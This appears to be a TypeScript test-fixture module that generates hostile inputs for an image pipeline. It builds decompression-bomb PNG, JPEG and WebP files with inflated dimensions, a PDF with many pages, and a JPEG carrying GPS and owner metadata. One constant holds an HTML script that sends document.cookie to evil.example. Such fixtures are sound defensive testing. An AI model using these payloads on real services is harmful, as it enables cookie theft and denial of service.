import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import sharp from 'sharp';

/** Pictures that somebody made to do harm, and what cameras leave in theirs. */

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}

function chunk(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, check]);
}

/** A PNG of one colour that says it is so large; its pixels are a few kilobytes of zeros, deflated. */
export function hugePng(width: number, height: number, rows = 2000): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  // One bit a pixel, shades of grey.
  head[8] = 1;
  const pixels = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * rows), { level: 9 });
  const start = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([start, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

const small = () => sharp({ create: { width: 64, height: 64, channels: 3, background: '#ddd' } });

/** A JPEG whose frame says that it is as large as one can be. */
export async function hugeJpeg(side = 65_500): Promise<Buffer> {
  const bytes = await small().jpeg().toBuffer();
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(side, frame + 5);
  bytes.writeUInt16BE(side, frame + 7);
  return bytes;
}

/** A WebP whose canvas is the largest that fits into its 24 bits. */
export async function hugeWebp(side = 0xffffff): Promise<Buffer> {
  const picture = (await small().webp({ lossless: true }).toBuffer()).subarray(12);
  const canvas = Buffer.alloc(18);
  canvas.write('VP8X', 0, 'latin1');
  canvas.writeUInt32LE(10, 4);
  canvas.writeUIntLE(side, 12, 3);
  canvas.writeUIntLE(side, 15, 3);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + canvas.length + picture.length);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), canvas, picture]);
}

/** Frames that would each be a page, as WebP. */
export function animatedWebp(frames: number, side = 200): Promise<Buffer> {
  const pixels = Buffer.alloc(side * side * frames * 3, 200);
  const raw = { width: side, height: side * frames, channels: 3, pageHeight: side } as const;
  return sharp(pixels, { raw }).webp({ loop: 0 }).toBuffer();
}

/** A PNG that says it has so many frames (APNG). */
export async function animatedPng(frames: number): Promise<Buffer> {
  const bytes = await small().png().toBuffer();
  const control = Buffer.alloc(8);
  control.writeUInt32BE(frames, 0);
  // After the head, which takes 33 bytes.
  return Buffer.concat([bytes.subarray(0, 33), chunk('acTL', control), bytes.subarray(33)]);
}

export const page = '<html><script>fetch("https://evil.example/"+document.cookie)</script></html>';
export const aZip = () => Buffer.from(zipSync({ 'evil.js': Buffer.from('alert(1)') }));

/** What a phone writes into its photographs: where it was, who owns it, which way up. */
export async function withCamerasNotes(picture: sharp.Sharp, orientation = 6): Promise<Buffer> {
  return picture
    .withExif({
      IFD0: { Make: 'Tecno', Artist: 'Ada Obi' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '6/1 31/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '3/1 22/1 0/1' },
    })
    .withIccProfile('srgb')
    .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><owner>Ada Obi</owner></x:xmpmeta>')
    .withMetadata({ orientation })
    .jpeg()
    .toBuffer();
}

/** A PDF of pages of these sides, each of which shows the same small picture. */
export async function pdfOfPictures(pages: number, width = 595, height = 842): Promise<Buffer> {
  const picture = await small().greyscale().jpeg().toBuffer();
  const objects: Buffer[] = [];
  const add = (text: string | Buffer) => objects.push(Buffer.from(text));
  const draw = `q ${width} 0 0 ${height} 0 0 cm /P Do Q`;
  add('<< /Type /Catalog /Pages 2 0 R >>');
  add(
    `<< /Type /Pages /Count ${pages} /Kids [${Array.from({ length: pages }, (_, at) => `${at + 5} 0 R`).join(' ')}] >>`,
  );
  add(
    Buffer.concat([
      Buffer.from(
        `<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode /Length ${picture.length} >>\nstream\n`,
      ),
      picture,
      Buffer.from('\nendstream'),
    ]),
  );
  add(`<< /Length ${draw.length} >>\nstream\n${draw}\nendstream`);
  for (let at = 0; at < pages; at += 1)
    add(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents 4 0 R /Resources << /XObject << /P 3 0 R >> >> >>`,
    );
  const parts = [Buffer.from('%PDF-1.4\n')];
  const places: number[] = [];
  let at = parts[0]!.length;
  for (const [index, object] of objects.entries()) {
    places.push(at);
    const whole = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), object, Buffer.from('\nendobj\n')]);
    parts.push(whole);
    at += whole.length;
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}
